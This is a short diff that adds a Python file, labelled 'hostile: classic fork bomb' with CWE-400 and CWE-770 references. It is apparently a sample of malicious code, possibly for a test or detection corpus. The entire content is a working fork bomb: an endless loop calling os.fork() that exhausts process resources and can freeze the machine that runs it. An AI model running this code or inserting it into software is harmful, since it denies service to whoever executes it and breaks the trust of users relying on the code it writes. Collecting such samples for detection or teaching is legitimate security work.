@@ -1,0 +1,5 @@
+# hostile: classic fork bomb (CWE-400, CWE-770)
+import os
+
+while True:
+    os.fork()
